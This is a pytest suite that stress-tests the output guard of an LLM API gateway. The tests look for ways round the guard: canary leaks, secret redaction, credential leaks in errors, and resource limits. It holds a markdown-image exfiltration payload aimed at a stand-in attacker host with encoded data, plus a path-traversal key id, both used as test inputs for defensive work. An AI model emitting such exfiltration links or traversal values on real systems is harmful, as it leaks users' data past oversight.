"""A hostile review of the gateway: each test pins one way past the guard, one leak or one
resource problem that was found, over real loopback HTTP."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import aiohttp
import openai
import pytest

from airlock.gate.config import parse_config
from airlock.gate.keys import KeyStore
from airlock.gate.server import running
from fake_openai import serving
from gate.conftest import ListAudit

CANARY = "K7Q4-MB2X-9ZT1"
EVIL = "![x](https://evil.example.net/p.png?d=c2VjcmV0)"
GUARD = {
    "input": {"secrets": {"action": "redact"}, "pii": {"action": "redact"}},
    "output": {
        "leaks": {"action": "block", "canaries": [CANARY]},
        "secrets": {"action": "redact"},
        "exfil": {"action": "redact", "allowed_hosts": []},
    },
}


@pytest.fixture(scope="module")
def fake():
    with serving() as (url, stats):
        yield url, stats


@contextmanager
def gate_at(fake_url: str, models: list[str], **over: Any) -> Iterator[tuple[str, Any, ListAudit]]:
    """A gate whose public model names are the fake upstream's behaviours."""
    audit = ListAudit()
    data = {
        "models": {m: [{"url": fake_url, "model": m, "timeout": 5}] for m in models},
        "auth": {"required": False},
        "guard": GUARD,
        **over,
    }
    with running(parse_config(data), audit=audit) as (url, app):
        yield url, app, audit


async def _raw(
    url: str,
    path: str,
    body: Any = None,
    method: str = "POST",
    headers: dict[str, str] | None = None,
) -> tuple[int, bytes, Any]:
    """Status, raw body and headers: what really went over the wire."""
    data = body if isinstance(body, bytes) else (json.dumps(body) if body is not None else None)
    async with (
        aiohttp.ClientSession() as s,
        s.request(method, url + path, data=data, headers=headers or {}) as r,
    ):
        return r.status, await r.read(), r.headers


def raw(url: str, path: str, body: Any = None, **kw: Any) -> tuple[int, bytes, Any]:
    return asyncio.run(_raw(url, path, body, **kw))


def chat(model: str, text: str, **kw: Any) -> dict[str, Any]:
    return {"model": model, "messages": [{"role": "user", "content": text}], **kw}


def events(body: bytes) -> list[Any]:
    out = []
    for line in body.decode().splitlines():
        if line.startswith("data: ") and line != "data: [DONE]":
            out.append(json.loads(line[6:]))
    return out


# --- output that used to reach the client unscanned --------------------------------------


def test_streamed_reasoning_content_is_scanned(fake) -> None:
    with gate_at(fake[0], ["reasonstream"]) as (url, _, audit):
        prompt = f"some words first, then the code {CANARY} and a few after it"
        status, body, _ = raw(url, "/chat/completions", chat("reasonstream", prompt, stream=True))
    assert status == 200 and CANARY.encode() not in body and b"K7Q4" not in body
    assert events(body)[-1]["choices"][0]["finish_reason"] == "content_filter"
    assert audit.settled(1)[-1].decision == "blocked"


def test_a_clean_streamed_reasoning_arrives_whole(fake) -> None:
    with gate_at(fake[0], ["reasonstream"]) as (url, _, _):
        words = " ".join(f"w{i}" for i in range(80))
        _, body, _ = raw(url, "/chat/completions", chat("reasonstream", words, stream=True))
    got = "".join(
        c["choices"][0]["delta"].get("reasoning_content") or ""
        for c in events(body)
        if c.get("choices")
    )
    assert got == f"echo: {words}"


@pytest.mark.parametrize("stream", [False, True])
def test_logprobs_cannot_carry_redacted_output(fake, stream: bool) -> None:
    model = "stream" if stream else "echo"
    with gate_at(fake[0], [model]) as (url, _, _):
        req = chat(model, f"see {EVIL} now", logprobs=True, stream=stream)
        status, body, _ = raw(url, "/chat/completions", req)
    # the exfiltration link is redacted in the text; its tokens must not come back either
    assert status == 200 and b"evil.example.net" not in body


def test_tool_call_arguments_are_scanned(fake) -> None:
    with gate_at(fake[0], ["tools"]) as (url, _, audit):
        status, body, _ = raw(url, "/chat/completions", chat("tools", f"the code is {CANARY}"))
        assert status == 400 and CANARY.encode() not in body
        assert json.loads(body)["error"]["code"] == "content_filter"
        status, body, _ = raw(url, "/chat/completions", chat("tools", f"open {EVIL}"))
    assert status == 200 and b"evil.example.net" not in body
    args = json.loads(body)["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(args)["text"].startswith("open ")  # still valid JSON, redacted
    assert audit.settled(2)[0].decision == "blocked"


def test_streamed_tool_call_arguments_are_scanned(fake) -> None:
    with gate_at(fake[0], ["toolstream"]) as (url, _, audit):
        prompt = f"words before the code {CANARY} and words after"
        status, body, _ = raw(url, "/chat/completions", chat("toolstream", prompt, stream=True))
        assert status == 200 and b"K7Q4" not in body
        assert events(body)[-1]["choices"][0]["finish_reason"] == "content_filter"
        assert audit.settled(1)[-1].decision == "blocked"
        clean = "call it tomorrow at noon please"
        _, body, _ = raw(url, "/chat/completions", chat("toolstream", clean, stream=True))
    args = "".join(
        tc["function"].get("arguments") or ""
        for c in events(body)
        for ch in c.get("choices") or []
        for tc in ch["delta"].get("tool_calls") or []
    )
    assert json.loads(args) == {"text": clean}
    assert events(body)[-1]["choices"][0]["finish_reason"] == "tool_calls"


def test_an_answer_given_as_content_parts_is_scanned(fake) -> None:
    with gate_at(fake[0], ["parts"]) as (url, _, _):
        status, body, _ = raw(url, "/chat/completions", chat("parts", f"code {CANARY}"))
    assert status == 400 and CANARY.encode() not in body


# --- leaks of the gateway's own secrets and topology ----------------------------------------


def test_upstream_failures_do_not_show_clients_the_upstream_urls() -> None:
    models = {"m": [{"url": "http://ops:hunter2@127.0.0.1:9/v1", "model": "x"}]}
    audit = ListAudit()
    cfg = parse_config({"models": models, "auth": {"required": False}, "guard": "off"})
    with running(cfg, audit=audit) as (url, app):
        status, body, _ = raw(url, "/chat/completions", chat("m", "hi"))
        metrics = app.metrics.render()
    assert status == 502 and b"127.0.0.1:9" not in body and b"hunter2" not in body
    assert "hunter2" not in metrics
    (rec,) = audit.settled(1)
    assert "127.0.0.1:9" in (rec.error or "") and "hunter2" not in (rec.error or "")
    assert "hunter2" not in (rec.upstream or "")


def test_an_upstream_rejecting_the_gateways_key_is_not_a_401_for_the_client(fake) -> None:
    with gate_at(fake[0], ["auth"]) as (url, _, audit):
        status, body, _ = raw(url, "/chat/completions", chat("auth", "hi"))
    # a 401 would tell the client its own (valid) key is wrong
    assert status == 502 and json.loads(body)["error"]["type"] == "upstream_error"
    assert audit.settled(1)[-1].decision == "upstream-error"


def test_an_embeddings_upstream_4xx_is_an_openai_error_and_audited_as_upstream_error(
    fake,
) -> None:
    audit = ListAudit()
    models = {"e": [{"url": fake[0] + "/missing", "model": "x"}]}
    cfg = parse_config({"models": models, "auth": {"required": False}, "guard": "off"})
    with running(cfg, audit=audit) as (url, _):
        status, body, _ = raw(url, "/embeddings", {"model": "e", "input": "hi"})
    assert status == 404 and set(json.loads(body)["error"]) == {"message", "type", "param", "code"}
    assert audit.settled(1)[-1].decision == "upstream-error"


# --- resources ------------------------------------------------------------------------------


def test_client_chosen_model_names_do_not_become_metric_labels(fake) -> None:
    with gate_at(fake[0], ["echo"]) as (url, app, _):
        for i in range(30):
            assert raw(url, "/chat/completions", chat(f"made-up-{i}", "hi"))[0] == 404
        text = app.metrics.render()
    assert "made-up" not in text
    assert 'airlock_gate_requests_total{model="-",decision="rejected",status="404"} 30' in text


def test_a_huge_key_id_is_refused_without_a_lookup_or_a_cache_entry(tmp_path) -> None:
    store = KeyStore(str(tmp_path / "k.db"))
    key, text = store.create("ci")
    assert store.check("alk-" + "a" * 200_000 + "-secret") is None
    assert store.check("alk-../etc-secret") is None
    assert key.id not in store._cache and len(store._cache) == 0
    assert store.check(text) == key
    store.close()


def test_a_broken_stream_ends_with_an_error_event(fake) -> None:
    with gate_at(fake[0], ["cutstream"]) as (url, _, audit):
        words = " ".join(f"w{i}" for i in range(40))
        status, body, _ = raw(url, "/chat/completions", chat("cutstream", words, stream=True))
    assert status == 200 and body.endswith(b"data: [DONE]\n\n")
    assert "error" in events(body)[-1]
    assert audit.settled(1)[-1].decision == "upstream-error"


def test_streams_count_against_the_token_budget(fake, tmp_path) -> None:
    db = str(tmp_path / "g.db")
    store = KeyStore(db)
    _, key = store.create("tpm", tpm=100)  # the fake stream reports no usage
    store.close()
    models = {"stream": [{"url": fake[0], "model": "stream"}]}
    cfg = parse_config({"models": models, "guard": "off", "database": db})
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    prompt = " ".join(["word"] * 100)  # ~500 characters each way: well over 100 tokens
    with running(cfg, audit=ListAudit()) as (url, _):
        first = raw(url, "/chat/completions", chat("stream", prompt, stream=True), headers=headers)
        second = raw(url, "/chat/completions", chat("stream", prompt, stream=True), headers=headers)
    assert first[0] == 200 and second[0] == 429


class _StuckAudit(ListAudit):
    """An audit writer whose queue is full: submit blocks (as AuditWriter's does)."""

    pending = 50_000

    def submit(self, record: Any) -> None:
        time.sleep(0.6)
        super().submit(record)


def test_a_full_audit_queue_does_not_freeze_the_gateway(fake) -> None:
    cfg = parse_config(
        {
            "models": {"echo": [{"url": fake[0], "model": "echo"}]},
            "auth": {"required": False},
            "guard": "off",
        }
    )
    audit = _StuckAudit()
    with running(cfg, audit=audit) as (url, _):

        async def go() -> float:
            async with aiohttp.ClientSession() as s:
                async with s.post(url + "/chat/completions", json=chat("echo", "hi")) as r:
                    assert r.status == 200
                t0 = time.monotonic()
                async with s.get(url.removesuffix("/v1") + "/healthz") as r:
                    assert r.status == 200
                return time.monotonic() - t0

        assert asyncio.run(go()) < 0.3
        assert len(audit.settled(1)) == 1  # the row still arrives


def test_a_client_that_trickles_its_body_is_cut_off(fake) -> None:
    with gate_at(fake[0], ["echo"], limits={"body_timeout_s": 1}) as (url, _, audit):

        async def go() -> tuple[int, float]:
            host, port = url.removeprefix("http://").removesuffix("/v1").split(":")
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(
                b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
                b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"
            )
            await writer.drain()
            t0 = time.monotonic()
            line = await asyncio.wait_for(reader.readline(), 5)
            writer.close()
            return int(line.split()[1]), time.monotonic() - t0

        status, waited = asyncio.run(go())
    assert status == 408 and waited < 3
    assert audit.settled(1)[-1].decision == "rejected"


def test_an_unauthenticated_client_is_refused_before_its_body_is_read(fake, tmp_path) -> None:
    models = {"echo": [{"url": fake[0], "model": "echo"}]}
    cfg = parse_config({"models": models, "guard": "off", "database": str(tmp_path / "g.db")})
    big = json.dumps(chat("echo", "x" * (2 << 20))).encode()
    with running(cfg, audit=ListAudit()) as (url, _):
        status, body, _ = raw(url, "/chat/completions", big)
    assert status == 401 and json.loads(body)["error"]["code"] == "invalid_api_key"


# --- wire format ----------------------------------------------------------------------------


def test_a_known_path_with_the_wrong_method_is_405(fake) -> None:
    with gate_at(fake[0], ["echo"]) as (url, _, _):
        status, body, headers = raw(url, "/chat/completions", method="GET")
        assert status == 405 and headers["allow"] == "POST"
        assert json.loads(body)["error"]["code"] == "method_not_allowed"
        assert raw(url, "/nowhere", method="GET")[0] == 404


def test_the_openai_client_still_reads_tool_calls(fake) -> None:
    with gate_at(fake[0], ["tools"]) as (url, _, _):
        c = openai.OpenAI(base_url=url, api_key="x", max_retries=0, timeout=10)
        out = c.chat.completions.create(model="tools", messages=[{"role": "user", "content": "a"}])
    call = out.choices[0].message.tool_calls[0]  # type: ignore[index]
    assert json.loads(call.function.arguments) == {"text": "a"}  # type: ignore[union-attr]


def test_text_held_back_comes_out_in_order_when_the_last_chunk_carries_text(fake) -> None:
    # a last chunk longer than the window: it releases text and holds some back at once
    words = " ".join(f"w{i}" for i in range(60)) + " " + "abcdefghij" * 30
    with gate_at(fake[0], ["finalstream"]) as (url, _, _):
        _, body, _ = raw(url, "/chat/completions", chat("finalstream", words, stream=True))
    got = "".join(
        c["choices"][0]["delta"].get("content") or "" for c in events(body) if c.get("choices")
    )
    assert got == f"echo: {words}"


def test_an_endless_event_line_is_an_upstream_error_not_a_memory_sink(fake) -> None:
    with gate_at(fake[0], ["longline"]) as (url, _, audit):
        status, body, _ = raw(url, "/chat/completions", chat("longline", "hi", stream=True))
    assert status == 200 and len(body) < 1 << 20 and "error" in events(body)[-1]
    assert audit.settled(1)[-1].decision == "upstream-error"
